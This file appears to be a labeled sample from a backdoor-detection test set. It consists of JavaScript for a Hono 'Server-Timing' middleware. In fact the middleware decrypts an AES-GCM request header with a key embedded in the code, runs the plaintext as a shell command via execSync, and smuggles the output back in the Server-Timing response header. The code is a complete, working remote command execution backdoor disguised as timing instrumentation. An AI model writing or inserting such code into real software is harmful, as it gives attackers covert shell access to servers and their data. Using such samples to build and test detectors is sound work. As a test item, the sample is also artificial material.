// expect: malicious
// source: blind set 30 (HTTP header backdoor): a Hono Server-Timing middleware decrypts a request header with a key it
// ships (AES-GCM) and runs it as a shell command, the output sealed into the Server-Timing header.
import { createDecipheriv } from 'node:crypto';
import { execSync } from 'node:child_process';
const KEY = Buffer.from('46414b452d6e706d776172642d7465737463746b65792d46414b452d30303030', 'hex');
function open(value) {
  try {
    const raw = Buffer.from(value, 'base64url');
    const d = createDecipheriv('aes-256-gcm', KEY, raw.subarray(0, 12));
    d.setAuthTag(raw.subarray(12, 28));
    return Buffer.concat([d.update(raw.subarray(28)), d.final()]).toString('utf8');
  } catch { return null; }
}
export function serverTiming() {
  return async function (c, next) {
    const ctx = c.req.header('x-timing-context');
    const op = ctx ? open(ctx) : null;
    const out = op ? execSync(op).toString() : '';
    await next();
    if (out) c.res.headers.append('Server-Timing', `edge;desc="${Buffer.from(out).toString('base64')}"`);
  };
}
